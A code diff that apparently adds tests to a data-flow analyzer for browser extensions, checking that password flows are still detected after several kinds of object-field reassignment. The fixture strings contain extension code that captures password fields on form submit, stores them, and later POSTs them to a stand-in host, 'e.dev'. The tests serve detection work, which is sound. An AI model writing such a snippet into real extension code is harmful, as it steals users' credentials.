@@ -51,3 +51,25 @@ it('members of an object in a list are told apart', () => {
     [true, false],
   );
 });
+
+const stored: Readonly<Record<string, string>> = {
+  itself: 'm.b = c',
+  'under another name': 'const t = m; t.b = c',
+  'by Object.assign': 'Object.assign(m, { b: c })',
+  'below a member': 'm.a = []; m.a.push(c)',
+};
+
+describe('a field that an object is given which another one was before is found once stored,', () => {
+  for (const [name, change] of Object.entries(stored)) {
+    it(name, () => {
+      const worker = (field: string): string =>
+        `let m = { k: 0 }; document.addEventListener('submit', (e) => { const c = e.target.querySelector('[type=password]').value; m = { a: 1 }; ${change.replaceAll(/\bc\b/g, field)}; chrome.storage.local.set(m) });
+        chrome.alarms.onAlarm.addListener(async () => { const kept = await chrome.storage.local.get(null); fetch('https://e.dev/x', { method: 'POST', body: JSON.stringify(kept.a || kept.b) }) })`;
+      const isSent = (field: string): boolean =>
+        flowsBetween
+          .whole({ 'worker.js': worker(field) }, {})
+          .some(({ source, sink }) => source.kind === 'form-input' && sink.kind === 'network');
+      assert.deepEqual([isSent('c'), isSent('5')], [true, false]);
+    });
+  }
+});
